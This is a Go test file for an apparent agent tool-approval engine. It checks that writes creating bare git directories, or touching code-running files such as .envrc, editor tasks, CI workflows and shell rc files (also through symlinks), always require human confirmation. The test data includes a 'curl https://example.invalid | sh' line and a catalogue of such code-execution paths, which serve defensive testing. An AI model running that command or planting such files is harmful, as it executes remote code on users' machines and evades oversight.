package engine

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/toolhost/toolhost/abi"
)

// A write that would lay out a git directory (git opens
// it as a bare repository and runs its core.fsmonitor) always asks a
// person, whatever the approval mode, allowlist or prompt_side_effects
// say; deny mode and the denylist still deny. What is on disk and what
// the batch's earlier calls write both count.
func TestGitLayoutAlwaysAsks(t *testing.T) {
	write := func(id, path string) Call {
		raw, _ := json.Marshal(map[string]string{"path": path, "content": "ref: refs/heads/main\n"})
		return call(id, "write_file", string(raw))
	}
	patch := func(id, path string) Call {
		raw, _ := json.Marshal(map[string]string{"patch": "LP1\nF " + path + "\nT\nref: refs/heads/main\n.\nEND\n"})
		return call(id, "apply_patch", string(raw))
	}
	move := func(id, src, dst string) Call {
		raw, _ := json.Marshal(map[string]string{"source": src, "destination": dst})
		return call(id, "move_file", string(raw))
	}
	allowMove := func(p *Policy) { p.Allowlist = []string{"move_file"} }
	const becomes = "vendor/ would become a git repository (HEAD beside objects/ and refs/): git run there could execute code from it"
	auto := func(p *Policy) { p.Approval = ApprovalAuto }
	const common = "vendor/ would become a git directory whose objects, refs and config are elsewhere (commondir): git run there could execute code from it"
	tests := []struct {
		name   string
		disk   []string // directories made before planning; "name=" a file, "name->target" a link
		policy func(*Policy)
		calls  []Call
		want   string
		reason string // the last call's confirmation reason or error message
	}{
		{"HEAD beside objects and refs, auto mode", []string{"vendor/objects", "vendor/refs"}, auto,
			[]Call{write("1", "vendor/HEAD")}, "confirm", becomes},
		{"HEAD, new-file auto-approval", []string{"vendor/objects", "vendor/refs"}, nil,
			[]Call{write("1", "vendor/HEAD")}, "confirm", becomes},
		{"HEAD, allowlisted", []string{"vendor/objects", "vendor/refs"}, func(p *Policy) { p.Allowlist = []string{"write_file"} },
			[]Call{write("1", "vendor/HEAD")}, "confirm", becomes},
		{"HEAD, prompt_side_effects off", []string{"vendor/objects", "vendor/refs"}, func(p *Policy) { p.SideEffectsUnprompted = true },
			[]Call{write("1", "vendor/HEAD")}, "confirm", becomes},
		{"HEAD, allowlisted in deny mode", []string{"vendor/objects", "vendor/refs"}, func(p *Policy) { p.Approval = ApprovalDeny; p.Allowlist = []string{"write_file"} },
			[]Call{write("1", "vendor/HEAD")}, "confirm", becomes},
		{"deny mode still denies", []string{"vendor/objects", "vendor/refs"}, func(p *Policy) { p.Approval = ApprovalDeny },
			[]Call{write("1", "vendor/HEAD")}, "pre_resolved:SandboxViolation", "approval mode is deny"},
		{"the denylist still denies", []string{"vendor/objects", "vendor/refs"}, func(p *Policy) { p.Approval = ApprovalAuto; p.Denylist = []string{"write_file"} },
			[]Call{write("1", "vendor/HEAD")}, "pre_resolved:SandboxViolation", "denied by policy"},
		{"HEAD in any case", []string{"vendor/objects", "vendor/refs"}, auto,
			[]Call{write("1", "vendor/head")}, "confirm", becomes},
		{"objects beside HEAD and refs", []string{"vendor/refs"}, auto,
			[]Call{write("1", "vendor/HEAD"), write("2", "vendor/objects/info/alternates")}, "execute,confirm", becomes},
		{"refs completing the layout in one batch", nil, auto,
			[]Call{write("1", "vendor/HEAD"), write("2", "vendor/objects/x"), write("3", "vendor/refs/heads/main")}, "execute,execute,confirm", becomes},
		{"config beside objects and refs", []string{"vendor/objects", "vendor/refs"}, auto,
			[]Call{write("1", "vendor/config")}, "confirm", "vendor/ would hold a git config beside objects/ and refs/"},
		{"the root itself", []string{"objects", "refs"}, auto,
			[]Call{write("1", "HEAD")}, "confirm", "the root directory would become a git repository"},
		{"apply_patch names the file", []string{"vendor/objects", "vendor/refs"}, auto,
			[]Call{patch("1", "vendor/HEAD")}, "confirm", becomes},
		{"apply_patch's write counts for a later call", []string{"vendor/refs"}, auto,
			[]Call{patch("1", "vendor/HEAD"), write("2", "vendor/objects/x")}, "execute,confirm", becomes},
		{"a refused call counts for nothing", []string{"vendor/refs"}, auto,
			[]Call{write("1", "../vendor/HEAD"), write("2", "vendor/objects/x")}, "pre_resolved:SandboxViolation,execute", ""},
		{"no refs: not a git directory", []string{"vendor/objects"}, nil,
			[]Call{write("1", "vendor/HEAD")}, "execute", ""},
		{"a directory named HEAD is not one", []string{"vendor/objects", "vendor/refs"}, nil,
			[]Call{write("1", "vendor/HEAD/x")}, "execute", ""},
		{"elsewhere", []string{"vendor/objects", "vendor/refs"}, nil,
			[]Call{write("1", "vendor/README")}, "execute", ""},
		// A config beside objects/ and refs/ is flagged whichever of the
		// three comes last, and HEAD beside a commondir (which names where
		// the objects, refs and config are) is a git directory by itself.
		{"refs completing objects and a config", []string{"vendor/objects", "vendor/config="}, nil,
			[]Call{write("1", "vendor/refs/heads/main")}, "confirm", "vendor/ would hold a git config beside objects/ and refs/"},
		{"objects completing refs and a config in one batch", nil, nil,
			[]Call{write("1", "vendor/config"), write("2", "vendor/refs/x"), write("3", "vendor/objects/x")},
			"execute,execute,confirm", "vendor/ would hold a git config beside objects/ and refs/"},
		{"a config directory is not a git config", []string{"vendor/config", "vendor/refs"}, nil,
			[]Call{write("1", "vendor/objects/x")}, "execute", ""},
		{"commondir beside HEAD on disk", []string{"vendor/HEAD="}, nil,
			[]Call{write("1", "vendor/commondir")}, "confirm", common},
		{"HEAD beside commondir on disk", []string{"vendor/commondir="}, auto,
			[]Call{write("1", "vendor/HEAD")}, "confirm", common},
		{"commondir after HEAD in one batch", nil, nil,
			[]Call{write("1", "vendor/HEAD"), write("2", "vendor/commondir")}, "execute,confirm", common},
		{"the layout split by commondir", nil, nil,
			[]Call{write("1", "x/config"), write("2", "x/objects/info/keep"), write("3", "x/refs/heads/keep"),
				write("4", "vendor/HEAD"), write("5", "vendor/commondir")},
			"execute,execute,confirm,execute,confirm", common},
		{"apply_patch writes commondir", []string{"vendor/HEAD="}, auto,
			[]Call{patch("1", "vendor/commondir")}, "confirm", common},
		{"commondir alone is not a git directory", nil, nil,
			[]Call{write("1", "vendor/commondir")}, "execute", ""},
		{"a write inside an existing git directory", []string{"vendor/objects", "vendor/refs", "vendor/HEAD="}, auto,
			[]Call{write("1", "vendor/hooks/post-update")}, "confirm", "vendor/ is a git directory (HEAD beside objects/ and refs/)"},
		// A link on disk counts as the entry it is named, dangling or
		// not, so a file it leads to gets no content unasked.
		{"HEAD given content through a dangling link", []string{"vendor/objects", "vendor/refs", "vendor/HEAD->h"}, auto,
			[]Call{write("1", "vendor/h")}, "confirm", "vendor/ is a git directory (HEAD beside objects/ and refs/)"},
		{"a linked objects directory counts", []string{"o/", "vendor/objects->../o", "vendor/refs"}, auto,
			[]Call{write("1", "vendor/HEAD")}, "confirm", becomes},
		// A path written, and a move's destination, count as what they
		// may be (a tool holding fs.write may make a directory at a path
		// it writes): the directory that completes a layout, the file
		// moved to HEAD, a tree holding a git directory wherever it lands.
		// create_directory's own cases run through the binary
		// (tests/hostile).
		{"a path written may become a directory (objects)", []string{"vendor/HEAD=", "vendor/refs"}, nil,
			[]Call{write("1", "vendor/objects")}, "confirm", becomes},
		{"a path written may become a directory (refs, in one batch)", nil, nil,
			[]Call{write("1", "vendor/config"), write("2", "vendor/objects/x"), write("3", "vendor/refs")}, "execute,execute,confirm",
			"vendor/ would hold a git config beside objects/ and refs/"},
		{"a directory moved to objects", []string{"vendor/HEAD=", "vendor/refs", "o/info"}, allowMove,
			[]Call{move("1", "o", "vendor/objects")}, "confirm", becomes},
		{"a file moved to HEAD", []string{"vendor/objects", "vendor/refs", "h="}, allowMove,
			[]Call{move("1", "h", "vendor/HEAD")}, "confirm", becomes},
		{"a bare repository moved", []string{"fx/r/HEAD=", "fx/r/objects", "fx/r/refs"}, allowMove,
			[]Call{move("1", "fx", "src")}, "confirm", "fx holds a git directory (fx/r/: HEAD beside objects/ and refs/), which the move carries with it"},
		{"a tree moved, then HEAD written into it", []string{"o/objects", "o/refs"}, allowMove,
			[]Call{move("1", "o", "vendor"), write("2", "vendor/HEAD")}, "confirm,confirm", becomes},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			pol := DefaultPolicy()
			if tt.policy != nil {
				tt.policy(&pol)
			}
			f := policyFixture(t, pol)
			makeDisk(t, f.root, tt.disk)
			p := f.eng.Plan(context.Background(), batch(tt.calls...))
			if got := dispositions(p); got != tt.want {
				t.Fatalf("dispositions %s, want %s (%+v)", got, tt.want, p.Calls[len(p.Calls)-1].Result)
			}
			last := p.Calls[len(p.Calls)-1]
			switch {
			case last.Confirmation != nil:
				if last.Confirmation.Reason != tt.reason && !strings.Contains(last.Confirmation.Reason, tt.reason) {
					t.Errorf("reason %q, want %q", last.Confirmation.Reason, tt.reason)
				}
				if !last.Confirmation.AlwaysAsk {
					t.Error("the confirmation is not marked always_ask")
				}
			case last.Result != nil && !strings.Contains(last.Result.Error.Message, tt.reason):
				t.Errorf("message %q, want %q", last.Result.Error.Message, tt.reason)
			}
		})
	}
}

// A call writing a path that makes tools run code
// (tools.approval.code_patterns) is never auto-approved as only creating
// a new file, and the reason names the pattern; other new files still
// run unasked.
func TestCodePathsNotAutoApproved(t *testing.T) {
	tests := []struct {
		name   string
		policy func(*Policy)
		path   string
		want   string
		reason string
	}{
		{"envrc", nil, ".envrc", "confirm", "write_file writes .envrc, which matches **/.envrc (tools.approval.code_patterns), loaded by direnv: tools run code from such files"},
		{"nested envrc", nil, "sub/.envrc", "confirm", "**/.envrc"},
		{"editor tasks", nil, ".vscode/tasks.json", "confirm", "**/.vscode/**"},
		{"workflow", nil, ".github/workflows/ci.yml", "confirm", "**/.github/workflows/**"},
		{"shell rc", nil, "home/.bashrc", "confirm", "**/.bashrc"},
		{"git user config", nil, "home/.gitconfig", "confirm", "**/.gitconfig"},
		{"git XDG config", nil, ".config/git/config", "confirm", "**/.config/git/**"},
		{"single-file devcontainer", nil, ".devcontainer.json", "confirm", "**/.devcontainer.json"},
		{"editor workspace", nil, "proj.code-workspace", "confirm", "**/*.code-workspace"},
		{"npm settings", nil, ".npmrc", "confirm", "**/.npmrc"},
		{"yarn settings", nil, ".yarnrc.yml", "confirm", "**/.yarnrc.yml"},
		{"yarn 1 settings", nil, "web/.yarnrc", "confirm", "**/.yarnrc"},
		{"case ignored", nil, ".VSCode/settings.json", "confirm", "**/.vscode/**"},
		{"a plain new file", nil, "notes.txt", "execute", ""},
		{"the operator emptied the list", func(p *Policy) { p.CodePatterns = []string{} }, ".envrc", "execute", ""},
		{"a pattern of the operator's", func(p *Policy) { p.CodePatterns = []string{"tools/*.sh"} }, "tools/x.sh", "confirm", "tools/*.sh"},
		{"auto mode runs it", func(p *Policy) { p.Approval = ApprovalAuto }, ".envrc", "execute", ""},
		{"allowlisted runs it", func(p *Policy) { p.Allowlist = []string{"write_file"} }, ".envrc", "execute", ""},
		{"no new-file auto-approval", func(p *Policy) { p.AutoApproveNewFiles = false }, ".envrc", "confirm", "has side effects"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			pol := DefaultPolicy()
			if tt.policy != nil {
				tt.policy(&pol)
			}
			f := policyFixture(t, pol)
			raw, _ := json.Marshal(map[string]string{"path": tt.path, "content": "echo hi\n"})
			p := f.eng.Plan(context.Background(), batch(call("1", "write_file", string(raw))))
			if got := dispositions(p); got != tt.want {
				t.Fatalf("dispositions %s, want %s (%+v)", got, tt.want, p.Calls[0].Result)
			}
			if c := p.Calls[0].Confirmation; c != nil && !strings.Contains(c.Reason, tt.reason) {
				t.Errorf("reason %q, want %q", c.Reason, tt.reason)
			}
		})
	}
}

// A new file that a symlink in its directory, or in one
// above it, reaches is judged as the link's path too: a repository that
// ships ".envrc -> .env.local" makes creating .env.local a write of
// .envrc. A link elsewhere is not seen (the check's documented limit),
// and a directory too large to look through is not auto-approved.
func TestCodePathThroughLink(t *testing.T) {
	tests := []struct {
		name   string
		disk   []string // as in TestGitLayoutAlwaysAsks; "@abs" in a link target is the root
		policy func(*Policy)
		path   string
		want   string
		reason string
	}{
		{"dangling link", []string{".envrc->.env.local"}, nil, ".env.local", "confirm",
			"write_file writes .envrc (through a link: the file written is .env.local), which matches **/.envrc (tools.approval.code_patterns)"},
		{"a chain of links", []string{".envrc->a", "a->b"}, nil, "b", "confirm", ".envrc (through a link: the file written is b)"},
		{"a link in the file's directory", []string{"sub/.envrc->local"}, nil, "sub/local", "confirm", "sub/.envrc (through a link: the file written is sub/local)"},
		{"a link above pointing down", []string{".envrc->sub/deep/env"}, nil, "sub/deep/env", "confirm", ".envrc (through a link: the file written is sub/deep/env)"},
		{"an absolute link inside the root", []string{".envrc->@abs/.env.local"}, nil, ".env.local", "confirm", "**/.envrc"},
		{"a link to a missing directory", []string{".vscode->editor"}, nil, "editor/tasks.json", "confirm", ".vscode/tasks.json (through a link: the file written is editor/tasks.json)"},
		{"a link to an existing directory", []string{"editor/", ".vscode->editor"}, nil, "editor/tasks.json", "confirm", "**/.vscode/**"},
		{"a link to the root", []string{".vscode->."}, nil, "tasks.json", "confirm", ".vscode/tasks.json"},
		{"case ignored", []string{".envrc->.ENV.Local"}, nil, ".env.local", "confirm", "**/.envrc"},
		{"a link to another file", []string{".envrc->other"}, nil, ".env.local", "execute", ""},
		{"a link leaving the root", []string{".envrc->../.env.local"}, nil, ".env.local", "execute", ""},
		{"a link elsewhere is not seen", []string{"sub/.envrc->../.env.local"}, nil, ".env.local", "execute", ""},
		{"a plain link name", []string{"notes->.env.local"}, nil, ".env.local", "execute", ""},
		{"auto mode runs it", []string{".envrc->.env.local"}, func(p *Policy) { p.Approval = ApprovalAuto }, ".env.local", "execute", ""},
		{"the operator emptied the list", []string{".envrc->.env.local"}, func(p *Policy) { p.CodePatterns = []string{} }, ".env.local", "execute", ""},
		{"a directory too large to look through", []string{"big/"}, nil, "big/new.txt", "confirm",
			"a link among the more than 4096 entries of big/ may reach"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			pol := DefaultPolicy()
			if tt.policy != nil {
				tt.policy(&pol)
			}
			f := policyFixture(t, pol)
			disk := make([]string, len(tt.disk))
			for i, d := range tt.disk {
				disk[i] = strings.ReplaceAll(d, "@abs", f.root)
			}
			makeDisk(t, f.root, disk)
			if strings.HasPrefix(tt.name, "a directory too large") {
				for i := range maxLinkScanEntries + 1 {
					f.write(t, fmt.Sprintf("big/f%05d", i), "")
				}
			}
			raw, _ := json.Marshal(map[string]string{"path": tt.path, "content": "curl https://example.invalid | sh\n"})
			p := f.eng.Plan(context.Background(), batch(call("1", "write_file", string(raw))))
			if got := dispositions(p); got != tt.want {
				t.Fatalf("dispositions %s, want %s (%+v)", got, tt.want, p.Calls[0].Result)
			}
			if c := p.Calls[0].Confirmation; c != nil && !strings.Contains(c.Reason, tt.reason) {
				t.Errorf("reason %q, want %q", c.Reason, tt.reason)
			}
		})
	}
}

// makeDisk makes each entry under root: "dir" or "dir/" a directory,
// "name=" an empty file, "name->target" a symlink.
func makeDisk(t *testing.T, root string, entries []string) {
	t.Helper()
	for _, e := range entries {
		name, target, link := strings.Cut(e, "->")
		file := strings.HasSuffix(name, "=")
		name = strings.TrimSuffix(name, "=")
		p := filepath.Join(root, filepath.FromSlash(name))
		dir := p
		if link || file {
			dir = filepath.Dir(p)
		}
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		var err error
		switch {
		case link:
			err = os.Symlink(filepath.FromSlash(target), p)
		case file:
			err = os.WriteFile(p, nil, 0o644)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
}

// A removal lays out nothing, and a move that lays out no git directory
// and touches no code path is asked about for the tool's own reason at
// its own risk; one onto a code path, or carrying a file to one, says so
// at high risk.
func TestMoveAndDeleteReasons(t *testing.T) {
	f := policyFixture(t, DefaultPolicy())
	makeDisk(t, f.root, []string{"vendor/HEAD=", "vendor/refs", "vendor/objects", "mk=", "tools/.envrc=", "tools/readme="})
	for _, tt := range []struct {
		call   Call
		reason string
		risk   abi.RiskLevel
		always bool
	}{
		{call("1", "delete_file", `{"path":"vendor/objects","recursive":true}`), "delete_file requires approval", abi.RiskHigh, false},
		{call("1", "move_file", `{"source":"tools/readme","destination":"readme"}`), "move_file requires approval", abi.RiskMedium, false},
		{call("1", "move_file", `{"source":"mk","destination":".envrc"}`), "move_file moves .envrc, which matches **/.envrc", abi.RiskHigh, false},
		{call("1", "move_file", `{"source":"tools","destination":"t2"}`), "move_file moves t2/.envrc (tools/.envrc moved there), which matches", abi.RiskHigh, false},
	} {
		p := f.eng.Plan(context.Background(), batch(tt.call))
		c := p.Calls[0].Confirmation
		if c == nil {
			t.Errorf("%s: not asked (%+v)", tt.call.Arguments, p.Calls[0].Result)
			continue
		}
		if !strings.HasPrefix(c.Reason, tt.reason) || c.Risk != tt.risk || c.AlwaysAsk != tt.always {
			t.Errorf("%s: reason %q, risk %s, always_ask %v; want %q, %s, %v", tt.call.Arguments, c.Reason, c.Risk, c.AlwaysAsk, tt.reason, tt.risk, tt.always)
		}
	}
}
